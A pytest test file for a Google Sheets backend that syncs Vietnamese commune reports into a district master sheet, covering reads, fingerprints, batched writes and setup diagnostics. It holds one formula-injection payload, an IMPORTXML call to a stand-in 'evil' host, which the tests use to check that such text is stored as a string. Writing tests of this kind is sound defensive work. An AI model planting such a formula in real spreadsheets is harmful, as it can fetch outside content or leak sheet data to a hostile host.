"""GoogleBackend against the stateful fake: one-request reads, atomic whole-tab writes."""

from __future__ import annotations

import json
from datetime import date, datetime

import pytest
from google_fake import (
    CLIENT_EMAIL,
    build_world,
    check_request,
    make_backend,
    running_fake,
)
from naive_gspread import run_naive_flow

from sync.backends.base import ColumnSpec, OutputTab
from sync.backends.google import spreadsheet_id
from sync.backends.google_cells import cell_data, grid_of, pack, serial
from sync.config import Config, GoogleSettings
from sync.doctor import doctor
from sync.errors import MasterUnavailable, SourceUnavailable
from sync.layout import commune_layout, master_layout

REGISTRY = [t.title for t in master_layout().by_role("registry")]
EVIL = '=IMPORTXML("http://evil","//a")'
ID = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-abcd"


@pytest.fixture
def world(fake):
    return build_world(fake, 3)


def tab(title: str, rows: list[list], formats: tuple = ()) -> OutputTab:
    width = max([len(r) for r in rows] + [len(formats), 1])
    columns = [
        ColumnSpec(f"Cột {i + 1}", format=formats[i] if i < len(formats) else None)
        for i in range(width)
    ]
    return OutputTab(title, columns, rows)


# -- sources ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        (ID, ID),
        (f"  {ID}\n", ID),
        (f"https://docs.google.com/spreadsheets/d/{ID}/edit#gid=0", ID),
        (f"https://docs.google.com/spreadsheets/d/{ID}/edit?usp=sharing", ID),
        (f"https://docs.google.com/spreadsheets/d/{ID}", ID),
        (f"https://docs.google.com/spreadsheets/u/1/d/{ID}/edit", ID),
        (f"docs.google.com/spreadsheets/d/{ID}/", ID),
        (f"https://drive.google.com/open?id={ID}", ID),
        (f"<https://docs.google.com/spreadsheets/d/{ID}/edit>", ID),
        (
            "https://docs.google.com/spreadsheets/d/e/2PACX-1vQabcdefghijklmnopqrstuvwxyz/pubhtml",
            None,
        ),
        ("29110.xlsx", None),
        ("Xã An Đức", None),
        ("https://example.com/d/notasheet", None),
        ("", None),
        (None, None),
        (29110, None),
    ],
)
def test_spreadsheet_urls_and_ids_are_normalized(typed, expected):
    assert spreadsheet_id(typed) == expected


def test_a_source_that_is_not_a_sheet_is_unavailable_without_a_request(fake, world):
    backend = make_backend(fake, world.master, world.folder)
    with pytest.raises(SourceUnavailable) as caught:
        backend.read_commune("29110.xlsx")
    assert "không phải ID" in caught.value.message
    assert backend.requests == 0


# -- reading ------------------------------------------------------------------------------


def test_read_commune_is_one_request_and_returns_whatever_tabs_exist(fake):
    c = commune_layout()
    sheet = fake.add_spreadsheet(
        "Xã Mỹ Hòa",
        {
            c["meetings"].title: [
                ["Ấp", "Ngày"],
                ["Ấp 1", date(2018, 3, 5)],
                [],
                ["Ấp 2", None, 7],
            ],
            "Xep loai (cu)": [["Ấp", "Năm", "Xếp loại"], ["Ấp 1", 2018, "Tốt"]],  # renamed tab
            "Ghi chép": [],
        },
    )
    backend = make_backend(fake, sheet)
    tabs = backend.read_commune(sheet)
    assert list(tabs) == [c["meetings"].title, "Xep loai (cu)", "Ghi chép"]
    assert tabs[c["meetings"].title] == [
        ["Ấp", "Ngày", None],
        ["Ấp 1", serial(date(2018, 3, 5)), None],
        [None, None, None],
        ["Ấp 2", None, 7],
    ]
    assert tabs["Ghi chép"] == []
    assert backend.requests == 1 and fake.reads[sheet] == 1


def test_read_gives_raw_values_numbers_booleans_and_serial_dates(fake):
    sheet = fake.add_spreadsheet(
        "Xã", {"T": [["text", 12, 2.5, True, datetime(2018, 3, 5, 12), "=not a formula"]]}
    )
    tabs = make_backend(fake, sheet).read_commune(sheet)
    assert tabs["T"] == [["text", 12, 2.5, True, 43164.5, "=not a formula"]]


def test_read_registry_is_one_request_robust_to_a_missing_tab(fake, world):
    sheet = fake.spreadsheets[world.master]
    sheet.tabs = [t for t in sheet.tabs if t.title != "Phân công"]
    backend = make_backend(fake, world.master, world.folder)
    grids = backend.read_registry()
    assert sorted(grids) == sorted(t for t in REGISTRY if t != "Phân công")
    assert grids["Danh mục xã"][0][:2] == ["Mã xã", "Tên xã"]
    assert backend.requests == 1


def test_unshared_deleted_or_excel_sources_say_why_in_vietnamese(fake, world):
    a, b, c = world.communes
    fake.spreadsheets[a].shared = False
    fake.spreadsheets[b].deleted = True
    fake.spreadsheets[c].mime = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    fake.spreadsheets[c].content = b"PK\x03\x04 cut short by an interrupted upload"
    backend = make_backend(fake, world.master, world.folder)
    messages = []
    for sheet in (a, b, c):
        with pytest.raises(SourceUnavailable) as caught:
            backend.read_commune(sheet)
        messages.append(caught.value.message)
    assert "chưa chia sẻ cho tài khoản đồng bộ" in messages[0]
    assert "không tồn tại hoặc đã bị xóa" in messages[1]
    assert "Excel" in messages[2] and "hỏng" in messages[2]
    assert backend.requests == 5  # none is retried; the upload: get, files.get, download


def test_master_not_found_or_not_shared_is_master_unavailable(fake, world):
    fake.spreadsheets[world.master].shared = False
    with pytest.raises(MasterUnavailable) as caught:
        make_backend(fake, world.master, world.folder).read_registry()
    assert CLIENT_EMAIL in caught.value.message and "Người chỉnh sửa" in caught.value.message
    fake.spreadsheets[world.master].deleted = True
    with pytest.raises(MasterUnavailable) as caught:
        make_backend(fake, world.master, world.folder).read_registry()
    assert "không tồn tại" in caught.value.message


# -- fingerprints -------------------------------------------------------------------------


def test_fingerprints_are_one_listing_and_change_only_with_the_sheet(fake, world):
    backend = make_backend(fake, world.master, world.folder)
    url = f"https://docs.google.com/spreadsheets/d/{world.communes[1]}/edit#gid=0"
    sources = [world.communes[0], url, world.communes[2]]
    first = backend.fingerprints(sources)
    assert set(first) == set(sources)
    assert backend.requests == 1 and fake.reads["drive"] == 1
    backend.write_commune(url, [tab("Kiểm tra dữ liệu", [["Không có lỗi"]])])
    second = backend.fingerprints(sources)
    assert second[url] != first[url]
    assert second[world.communes[0]] == first[world.communes[0]]


def test_a_source_outside_the_folder_is_left_out(fake, world):
    outside = fake.add_spreadsheet("Xã ngoài thư mục", {"T": [["x"]]})
    backend = make_backend(fake, world.master, world.folder)
    assert set(backend.fingerprints([outside, world.communes[0]])) == {world.communes[0]}


def test_fingerprints_follow_every_page(world):
    with running_fake(page_size_cap=2) as fake:
        w = build_world(fake, 5)
        backend = make_backend(fake, w.master, w.folder)
        assert len(backend.fingerprints(w.communes)) == 5
        assert backend.requests == 3


def test_without_a_folder_every_shared_sheet_is_listed(fake, world):
    backend = make_backend(fake, world.master)
    assert set(backend.fingerprints(world.communes)) == set(world.communes)


def test_describe_names_a_sheet_by_its_title_once_known(fake, world):
    backend = make_backend(fake, world.master, world.folder)
    assert backend.describe(world.communes[0]) == world.communes[0]
    backend.read_commune(world.communes[0])
    assert backend.describe(world.communes[0]) == "Báo cáo xã 29110"
    assert backend.describe("29110.xlsx") == "29110.xlsx"


# -- writing ------------------------------------------------------------------------------


def test_write_master_is_one_batch_update_that_leaves_district_tabs_untouched(fake, world):
    master = fake.spreadsheets[world.master]
    before = {t.title: t.snapshot() for t in master.tabs}
    backend = make_backend(fake, world.master, world.folder)
    backend.read_registry()
    backend.write_master(
        [
            tab("TH Sinh hoạt", [["29110", date(2018, 3, 5), 0.9]], ("", "date", "percent")),
            tab("Lỗi dữ liệu", [["29110", "Lỗi", EVIL]]),
        ]
    )
    assert backend.writes == 1 and backend.reads == 1
    assert fake.writes[world.master] == 1
    assert {t.title: t.snapshot() for t in master.tabs if t.title in before} == before
    assert [t.title for t in master.tabs][-2:] == ["TH Sinh hoạt", "Lỗi dữ liệu"]


def test_formula_like_text_is_written_as_a_string(fake, world):
    backend = make_backend(fake, world.master, world.folder)
    backend.write_master([tab("Lỗi dữ liệu", [["29110", EVIL, "+84 90", "@x", "-5 hộ"]])])
    cells = fake.spreadsheets[world.master].tab("Lỗi dữ liệu").cells
    assert cells[(1, 1)]["userEnteredValue"] == {"stringValue": EVIL}
    assert all("formulaValue" not in c.get("userEnteredValue", {}) for c in cells.values())
    sent = json.dumps(fake.bodies)
    assert "formulaValue" not in sent and "USER_ENTERED" not in sent


def test_values_are_typed_and_dates_get_a_date_format(fake, world):
    backend = make_backend(fake, world.master, world.folder)
    backend.write_master(
        [tab("TH Hỗ trợ", [[date(2018, 3, 5), 5000000, 0.875, True, None, "x"]], ("date", "vnd"))]
    )
    written = fake.spreadsheets[world.master].tab("TH Hỗ trợ")
    row = [written.cells.get((1, c), {}).get("userEnteredValue") for c in range(6)]
    assert row == [
        {"numberValue": 43164},
        {"numberValue": 5000000},
        {"numberValue": 0.875},
        {"boolValue": True},
        None,
        {"stringValue": "x"},
    ]
    number_format = written.cells[(1, 0)]["userEnteredFormat"]["numberFormat"]
    assert number_format == {"type": "DATE", "pattern": "dd/mm/yyyy"}
    assert written.cells[(0, 0)]["userEnteredFormat"]["textFormat"] == {"bold": True}


def test_missing_tabs_are_created_and_grids_resized_to_what_is_written(fake, world):
    backend = make_backend(fake, world.master, world.folder)
    backend.write_master([tab("Thống kê hỗ trợ", [["a", 1], ["b", 2], ["c", 3]])])
    written = fake.spreadsheets[world.master].tab("Thống kê hỗ trợ")
    assert (written.rows, written.cols, written.frozen) == (4, 2, 1)
    assert written.values() == [["Cột 1", "Cột 2"], ["a", 1], ["b", 2], ["c", 3]]


def test_a_header_only_tab_keeps_one_empty_row_so_the_header_can_freeze(fake, world):
    backend = make_backend(fake, world.master, world.folder)
    backend.write_master([tab("Lỗi dữ liệu", [])])
    written = fake.spreadsheets[world.master].tab("Lỗi dữ liệu")
    assert (written.rows, written.frozen) == (2, 1)


def test_a_tab_shrinking_from_100_rows_to_10_leaves_no_stale_cells(fake, world):
    backend = make_backend(fake, world.master, world.folder)
    backend.write_master([tab("TH Xếp loại", [[i, f"dòng {i}", "cũ", "cũ"] for i in range(100)])])
    sheet_id = fake.spreadsheets[world.master].tab("TH Xếp loại").sheet_id
    backend.write_master([tab("TH Xếp loại", [[i, f"mới {i}"] for i in range(10)])])
    written = fake.spreadsheets[world.master].tab("TH Xếp loại")
    assert written.sheet_id == sheet_id  # rewritten in place, charts and links survive
    assert written.rows == 11
    assert written.values() == [["Cột 1", "Cột 2"]] + [[i, f"mới {i}"] for i in range(10)]
    assert backend.writes == 2


def test_write_master_refuses_district_owned_tabs(fake, world):
    backend = make_backend(fake, world.master, world.folder)
    with pytest.raises(ValueError):
        backend.write_master([tab("Danh mục xã", [["x"]])])
    assert backend.requests == 0


def test_write_commune_uses_the_tab_list_from_this_runs_read(fake, world):
    sheet = world.communes[0]
    backend = make_backend(fake, world.master, world.folder)
    backend.read_commune(sheet)
    backend.write_commune(
        sheet, [tab("Kiểm tra dữ liệu", [["Không có lỗi"]]), tab("Phân công", [])]
    )
    assert (backend.reads, backend.writes) == (1, 1)
    other = world.communes[1]
    backend.write_commune(other, [tab("Kiểm tra dữ liệu", [["Không có lỗi"]])])
    assert (backend.reads, backend.writes) == (2, 2)  # one properties-only read for it


def test_a_read_only_commune_sheet_cannot_take_feedback(fake, world):
    sheet = world.communes[0]
    fake.spreadsheets[sheet].can_edit = False
    backend = make_backend(fake, world.master, world.folder)
    backend.read_commune(sheet)
    with pytest.raises(SourceUnavailable) as caught:
        backend.write_commune(sheet, [tab("Kiểm tra dữ liệu", [["ok"]])])
    assert "ghi phản hồi" in caught.value.message and "Người chỉnh sửa" in caught.value.message


def test_a_tab_deleted_since_the_read_is_recreated_after_one_refusal(fake, world):
    backend = make_backend(fake, world.master, world.folder)
    backend.write_master([tab("Tiến độ báo cáo", [["a"]])])
    backend.read_registry()
    master = fake.spreadsheets[world.master]
    master.tabs = [t for t in master.tabs if t.title != "Tiến độ báo cáo"]  # staff deleted it
    backend.write_master([tab("Tiến độ báo cáo", [["b"]])])
    assert fake.values(world.master, "Tiến độ báo cáo")[1] == ["b"]
    statuses = [c.status for c in fake.calls if c.method.endswith("batchUpdate")]
    assert statuses == [200, 400, 200]


def test_a_body_over_the_limit_is_split_with_each_tab_whole(world):
    limit = 60_000
    with running_fake(max_body_bytes=limit) as fake:
        w = build_world(fake, 1)
        backend = make_backend(fake, w.master, w.folder, max_body_bytes=limit)
        tabs = [
            tab(f"TH {i}", [[f"xã {r}", r, "nội dung " * 5] for r in range(120)]) for i in range(4)
        ]
        backend.write_master(tabs)
        assert 1 < backend.writes < len(tabs)
        for t in tabs:
            homes = [
                i
                for i, (_, body) in enumerate(fake.bodies)
                for r in body["requests"]
                if r.get("addSheet", {}).get("properties", {}).get("title") == t.title
            ]
            assert len(homes) == 1  # the tab's requests all travel in one body
            assert fake.values(w.master, t.title)[120] == ["xã 119", 119, "nội dung " * 5]


def test_pack_keeps_groups_whole():
    groups = [[{"a": "x" * 40}] * 3, [{"b": "y" * 40}] * 2, [{"c": "z" * 400}]]
    batches = pack(groups, max_bytes=200)
    assert [len(b) for b in batches] == [3, 2, 1]


def test_cell_values_never_become_formulas():
    assert cell_data(EVIL) == {"userEnteredValue": {"stringValue": EVIL}}
    assert cell_data(float("nan")) == {}
    assert cell_data("") == {}
    assert cell_data(True) == {"userEnteredValue": {"boolValue": True}}
    assert cell_data(datetime(1899, 12, 31, 6)) == {"userEnteredValue": {"numberValue": 1.25}}


def test_grid_of_pads_rows_and_drops_trailing_empty_ones():
    sheet = {
        "data": [{"rowData": [{"values": [{"effectiveValue": {"stringValue": "a"}}]}, {}, {}]}]
    }
    assert grid_of(sheet) == [["a"]]


# -- the fake checks requests against the discovery documents ------------------------------


def test_the_discovery_check_catches_unknown_fields_parameters_and_masks():
    url = f"https://sheets.googleapis.com/v4/spreadsheets/{ID}:batchUpdate"
    bad_body = {
        "requests": [
            {
                "updateCells": {
                    "rows": [{"values": [{"userEnteredValue": {"stringVal": "x"}}]}],
                    "fields": "userEnteredValue",
                }
            }
        ]
    }
    _, _, errors = check_request("POST", url, bad_body)
    assert any("stringVal" in e for e in errors)
    _, _, errors = check_request(
        "GET", f"https://sheets.googleapis.com/v4/spreadsheets/{ID}?valueRender=x", None
    )
    assert any("valueRender" in e for e in errors)
    get = f"https://sheets.googleapis.com/v4/spreadsheets/{ID}?fields=sheets(propertiez)"
    _, _, errors = check_request("GET", get, None)
    assert any("propertiez" in e for e in errors)
    _, _, errors = check_request(
        "DELETE", f"https://sheets.googleapis.com/v4/spreadsheets/{ID}", None
    )
    assert errors


# -- compared with the naive gspread flow -------------------------------------------------


def test_the_backend_spends_far_fewer_requests_than_naive_gspread(fake):
    n = 6
    w = build_world(fake, n)
    inputs = [t.title for t in commune_layout().by_role("input")]
    outputs = {
        t.title: [[c.header for c in t.columns], ["x"] * len(t.columns)]
        for t in master_layout().by_role("output")
    }
    naive = run_naive_flow(fake, w.master, w.communes, outputs, inputs)

    backend = make_backend(fake, w.master, w.folder)
    backend.read_registry()
    backend.fingerprints(w.communes)
    for sheet in w.communes:
        backend.read_commune(sheet)
    backend.write_master(
        [OutputTab(t, [ColumnSpec(h) for h in g[0]], g[1:]) for t, g in outputs.items()]
    )
    ours = {"reads": backend.reads, "writes": backend.writes}
    assert ours == {"reads": n + 2, "writes": 1}
    assert naive["reads"] >= 4 * n and naive["writes"] >= 2 * len(outputs)
    print(f"\nN={n}: naive gspread {naive}, GoogleBackend {ours}")


# -- doctor -------------------------------------------------------------------------------


def _config(tmp_path, w) -> Config:
    return Config(
        root=tmp_path, backend="google", google=GoogleSettings(master=w.master, folder=w.folder)
    )


def test_doctor_passes_on_a_good_setup(tmp_path, fake, world):
    checks = doctor(
        _config(tmp_path, world), backend=make_backend(fake, world.master, world.folder)
    )
    assert all(ok for _, ok, _ in checks), checks
    assert CLIENT_EMAIL in checks[0][2]
    assert len(checks) == 4 + 3  # key, pace, master, folder, three communes


def test_doctor_says_what_to_share_with_whom(tmp_path, fake, world):
    a, b, c = world.communes
    fake.spreadsheets[a].shared = False
    fake.spreadsheets[b].can_edit = False
    fake.spreadsheets[c].parents = []
    checks = {
        name: (ok, detail)
        for name, ok, detail in doctor(
            _config(tmp_path, world), backend=make_backend(fake, world.master, world.folder)
        )
    }
    ok, detail = checks["Xã 29110 (29110)"]
    assert not ok and f"cho {CLIENT_EMAIL} với quyền Người chỉnh sửa" in detail and a in detail
    ok, detail = checks["Xã 29111 (29111)"]
    assert not ok and "chỉ có quyền xem" in detail
    ok, detail = checks["Xã 29112 (29112)"]
    assert not ok and "không nằm trong thư mục" in detail


def test_doctor_without_credentials_reports_the_key(tmp_path):
    checks = doctor(Config(root=tmp_path, backend="google", google=GoogleSettings(master=ID)))
    assert checks[0][0] == "Khóa tài khoản dịch vụ" and not checks[0][1]
    assert "GOOGLE_APPLICATION_CREDENTIALS" in checks[0][2]


def test_doctor_reports_an_unreachable_master_and_folder(tmp_path, fake, world):
    fake.spreadsheets[world.master].shared = False
    fake.folders[world.folder]["shared"] = False
    checks = doctor(
        _config(tmp_path, world), backend=make_backend(fake, world.master, world.folder)
    )
    failed = {name: detail for name, ok, detail in checks if not ok}
    assert CLIENT_EMAIL in failed["Bảng tổng hợp (master)"]
    assert "chia sẻ thư mục" in failed["Thư mục Drive của các xã"]
    assert "Bảng tính các xã" in failed
